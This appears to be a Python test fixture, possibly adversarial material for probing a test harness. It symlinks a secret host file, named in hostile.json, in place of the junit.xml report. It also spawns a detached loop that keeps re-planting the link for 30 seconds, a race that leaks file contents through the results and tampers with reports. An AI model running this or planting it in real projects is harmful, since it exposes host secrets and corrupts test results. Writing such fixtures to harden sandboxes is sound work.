"""Puts a link to a file of the host in the place of the report, and keeps putting it there."""

import json
import os
import subprocess
import sys
from pathlib import Path

ENDS = "no results"
KNOWN = json.loads(Path("hostile.json").read_text())
LINKER = """
import os, sys, time
end = time.time() + 30
while time.time() < end:
    try:
        os.symlink(sys.argv[1], "/results/new")
        os.replace("/results/new", "/results/junit.xml")
    except OSError:
        pass
"""


def test_links():
    os.symlink(KNOWN["secret_file"], "/results/junit.xml")
    subprocess.Popen([sys.executable, "-c", LINKER, KNOWN["secret_file"]], start_new_session=True)
